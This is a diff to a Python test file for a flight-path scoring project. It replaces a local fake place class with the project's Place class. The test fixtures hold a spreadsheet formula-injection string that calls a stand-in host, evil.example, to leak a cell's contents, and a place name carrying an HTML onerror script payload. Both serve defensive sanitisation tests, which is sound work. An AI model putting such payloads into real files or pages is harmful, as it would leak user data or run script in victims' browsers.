@@ -10,7 +10,6 @@ import io
 import json
 import re
 import xml.etree.ElementTree as ET
-from dataclasses import dataclass
 from pathlib import Path
 
 import numpy as np
@@ -19,6 +18,7 @@ import pytest
 from PIL import Image
 from test_score import HOSTILE, T0, _w
 
+from flightpaths.context.places import Place
 from flightpaths.fileio import csv_cell, csv_safe_frame
 from flightpaths.score import (
     adsbx_url,
@@ -41,21 +41,11 @@ from flightpaths.score.writers import KML_NS
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
-@dataclass(frozen=True)
-class FakePlace:
-    name: str
-    region: str
-    country: str
-    lat: float
-    lon: float
-    population: int
-
-
-def fake_places_near(lat: float, lon: float, *, radius_km: float = 30.0, limit: int = 12) -> list[FakePlace]:
+def fake_places_near(lat: float, lon: float, *, radius_km: float = 30.0, limit: int = 12) -> list[Place]:
     """Two places near any point, one with a hostile name; the farther one first (the tip sheet sorts)."""
     return [
-        FakePlace("Far Town", "NY", "US", lat + 0.1, lon, 10),
-        FakePlace("<img src=x onerror=alert(2)>Evil", "NY", "US", lat + 0.01, lon + 0.01, 5),
+        Place("Far Town", "NY", "US", lat + 0.1, lon, 10),
+        Place("<img src=x onerror=alert(2)>Evil", "NY", "US", lat + 0.01, lon + 0.01, 5),
     ]
 
 
